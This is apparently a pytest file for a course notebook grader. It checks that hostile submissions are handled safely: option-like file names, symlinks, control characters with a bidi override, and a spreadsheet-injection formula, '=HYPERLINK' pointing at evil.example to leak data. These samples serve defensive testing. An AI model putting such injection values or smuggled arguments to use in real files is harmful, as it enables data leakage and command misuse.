"""Input hygiene in the trusted process: hostile file names, symlinks, the wrong sheet,
spreadsheet formulas and control characters, Markdown answer cells, the time budget.

One grader run, started the way an instructor would in the submissions folder (a shell glob
gives the names, no ``--``), grades:

    -rf.ipynb                   a correct sheet: must not be read as options
    --private-checks=x.ipynb    a half-done sheet: must not swap the private checks
    =1+2.ipynb                  a correct sheet whose name is a formula
    link.ipynb                  a symlink to another learner's file
    last_week.ipynb             last week's solutions (a sheet the reference also has)
    formula_sheet.ipynb         course.sheet = '=HYPERLINK(...)'
    control_sheet.ipynb         course.sheet full of ESC, BEL, NUL and a bidi override
    markdown_answer.ipynb       a correct sheet whose double answer is a Markdown cell
"""

from __future__ import annotations

import copy
import csv
import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import pytest
from test_grade import (
    ALL_PASS,
    MEAN_WRONG,
    NA,
    REFERENCE_NB,
    ROOT,
    SHEET,
    SUBMISSIONS_DIR,
    hash_tree,
    machine,  # noqa: F401 - the fixture
    need_sandbox,
    ok,
    zero,
)

from course_tools import grade, report

LIMITS = ["--cell-timeout", "5", "--timeout", "60", "--memory", "2G", "--nproc", "64",
          "--jobs", "2", "--no-progress"]
LAST_WEEK = "grading_last_week"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
CONTROL = "\x1b[31mred\x07\x00\u202egnp.exe"
WRONG_SHEET = "this assignment is sheet 'grading_tiny', but the notebook is sheet {!r}"
MARKDOWN_NA = ("Not run: your answer cell of double is not a code cell (Markdown or raw); "
               "change its cell type back to Code.")


def _load(name: str) -> dict:
    return json.loads((SUBMISSIONS_DIR / f"{name}.ipynb").read_text(encoding="utf-8"))


def _with_sheet(nb: dict, sheet: str) -> dict:
    nb = copy.deepcopy(nb)
    nb["metadata"]["course"]["sheet"] = sheet
    return nb


def _markdown_answer(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        course = cell["metadata"].get("course", {})
        if course.get("role") == "answer" and course.get("exercise") == "double":
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


def _write(folder: Path, files: dict[str, dict]) -> None:
    folder.mkdir(parents=True)
    for name, nb in files.items():
        (folder / name).write_text(json.dumps(nb, indent=1), encoding="utf-8")


@pytest.fixture(scope="module")
def hygiene_run(machine, tmp_path_factory):  # noqa: F811 - pytest's fixture argument
    need_sandbox(machine)
    work = tmp_path_factory.mktemp("hygiene")
    reference = work / "reference"
    reference.mkdir()
    ref = json.loads(REFERENCE_NB.read_text(encoding="utf-8"))
    (reference / "grading_tiny.ipynb").write_text(json.dumps(ref), encoding="utf-8")
    (reference / "last_week.ipynb").write_text(json.dumps(_with_sheet(ref, LAST_WEEK)), "utf-8")
    correct, partial = _load("correct"), _load("partial")
    _write(work / "other", {"victim.ipynb": correct})
    subs = work / "subs"
    _write(subs, {
        "-rf.ipynb": correct,
        "--private-checks=x.ipynb": partial,
        "=1+2.ipynb": correct,
        "last_week.ipynb": _with_sheet(correct, LAST_WEEK),
        "formula_sheet.ipynb": _with_sheet(correct, FORMULA),
        "control_sheet.ipynb": _with_sheet(correct, CONTROL),
        "markdown_answer.ipynb": _markdown_answer(correct),
    })
    os.symlink(work / "other" / "victim.ipynb", subs / "link.ipynb")
    names = sorted(os.listdir(subs))  # what `*` expands to
    before = hash_tree(subs), hash_tree(work / "other")
    cmd = [sys.executable, "-m", "course_tools.grade", "--sheet", SHEET, "--reference",
           str(reference), "--out", str(work / "grades.csv"), "--feedback", str(work / "fb"),
           *LIMITS, *names]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(cmd, cwd=subs, capture_output=True, text=True, timeout=600, env=env)
    with open(work / "grades.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return SimpleNamespace(proc=proc, rows=rows, work=work, before=before,
                           after=(hash_tree(subs), hash_tree(work / "other")))


def _rows(run, submission: str) -> list[tuple]:
    return [tuple(r[2:]) for r in run.rows[1:] if r[0] == submission]


def _error(message: str) -> list[tuple]:
    return [("", "0", "0", "error", message)]


def _graded(rows: list[tuple]) -> list[tuple]:
    return [(ex, f"{p:g}", f"{m:g}", status, msg) for ex, p, m, status, msg in rows]


EXPECTED = {
    "'-rf.ipynb": (SHEET, _graded(ALL_PASS)),
    "'--private-checks=x.ipynb": (SHEET, _graded([ok("double", 2),
                                                 zero("mean", 1, "failed", MEAN_WRONG),
                                                 zero("total", 3, "not attempted", NA)])),
    "'=1+2.ipynb": (SHEET, _graded(ALL_PASS)),
    "link.ipynb": ("", _error("the submission is a symbolic link, not a file: hand in the "
                              "notebook itself")),
    "last_week.ipynb": (LAST_WEEK, _error(WRONG_SHEET.format(LAST_WEEK))),
    "formula_sheet.ipynb": ("'" + FORMULA, _error(WRONG_SHEET.format(FORMULA))),
    "control_sheet.ipynb": ("[31mredgnp.exe", _error(WRONG_SHEET.format(CONTROL))),
    "markdown_answer.ipynb": (SHEET, _graded([zero("double", 2, "not attempted", MARKDOWN_NA),
                                              ok("mean", 1), ok("total", 3)])),
}


@pytest.mark.parametrize("submission", sorted(EXPECTED))
def test_hygiene_rows(hygiene_run, submission):
    assert hygiene_run.proc.returncode == 0, hygiene_run.proc.stderr[-3000:]
    sheet, rows = EXPECTED[submission]
    assert _rows(hygiene_run, submission) == rows
    assert {r[1] for r in hygiene_run.rows[1:] if r[0] == submission} == {sheet}


def test_every_submission_has_rows_and_nothing_else(hygiene_run):
    assert {r[0] for r in hygiene_run.rows[1:]} == set(EXPECTED)


def test_no_cell_is_a_formula_or_holds_control_characters(hygiene_run):
    for row in hygiene_run.rows:
        for cell in row:
            assert not cell.startswith(report.FORMULA_START), cell
            assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in cell), cell


def test_feedback_has_no_control_characters(hygiene_run):
    for path in (hygiene_run.work / "fb").iterdir():
        text = path.read_text(encoding="utf-8")
        assert all(ch == "\n" or unicodedata.category(ch) not in ("Cc", "Cf") for ch in text)


def test_the_markdown_answer_is_explained_in_the_feedback(hygiene_run):
    text = (hygiene_run.work / "fb" / "markdown_answer.md").read_text(encoding="utf-8")
    assert "an answer cell of exercise double is not a code cell" in text


def test_submissions_are_byte_identical(hygiene_run):
    assert hygiene_run.before == hygiene_run.after


def test_an_unknown_expected_sheet_is_a_usage_error(tmp_path):
    proc = subprocess.run(
        [sys.executable, "-m", "course_tools.grade", "--sheet", "nope", "--reference",
         str(REFERENCE_NB.parent), "--out", str(tmp_path / "g.csv"), "--",
         str(SUBMISSIONS_DIR / "correct.ipynb")],
        cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2
    assert "--sheet 'nope' is not a reference sheet" in proc.stderr


@pytest.mark.parametrize("argv, expected", [
    (["--out", "g.csv", "a.ipynb"], ["--out", "g.csv", "a.ipynb"]),
    (["--out", "g.csv", "--", "-x.ipynb"], ["--out", "g.csv", "--", "-x.ipynb"]),
])
def test_split_paths_leaves_ordinary_arguments_alone(argv, expected):
    assert grade.split_paths(argv) == expected


def test_split_paths_moves_existing_option_like_files(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("-rf.ipynb", "--out=x.ipynb", "-j"):
        (tmp_path / name).write_text("{}")
    argv = ["-j", "2", "--out", "g.csv", "-rf.ipynb", "--out=x.ipynb", "b.ipynb"]
    assert grade.split_paths(argv) == ["-j", "2", "--out", "g.csv", "b.ipynb", "--",
                                       "-rf.ipynb", "--out=x.ipynb"]


def test_clean_text_and_csv_field():
    assert report.clean_text("a\x1b[0m\x07b\x00c\u202ed\u2066e\ud800f\n g") == "a[0mbcde\ufffdf g"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert report.csv_field(start + "1+1").startswith("'")
    assert report.csv_field("plain text") == "plain text"


class _FakeSandbox:
    def __init__(self, elapsed: float):
        self.elapsed, self.runs = elapsed, 0

    def run(self, base, name, notebook_json, slot, budget=None):
        self.runs += 1
        return SimpleNamespace(elapsed=self.elapsed)


@pytest.mark.parametrize("elapsed, budget", [(2.0, 30.0), (10.0, 40.0)])
def test_auto_budget_is_a_few_times_the_references_own_run(elapsed, budget):
    from course_tools.reference import load_reference

    sheets = load_reference(REFERENCE_NB.parent)
    job = grade.Job(sheets, {}, None)
    job.sandbox = _FakeSandbox(elapsed)  # type: ignore[assignment]
    assert grade._budget(job, sheets[SHEET], 0) == budget
    assert grade._budget(job, sheets[SHEET], 0) == budget
    assert job.sandbox.runs == 1  # measured once per sheet


def test_split_paths_knows_every_option():
    actions = grade._parser()._actions
    takes_value = {s for a in actions if a.nargs != 0 and a.option_strings
                   for s in a.option_strings}
    flags = {s for a in actions if a.nargs == 0 for s in a.option_strings}
    assert takes_value == grade._VALUE_OPTIONS
    assert flags == grade._FLAG_OPTIONS
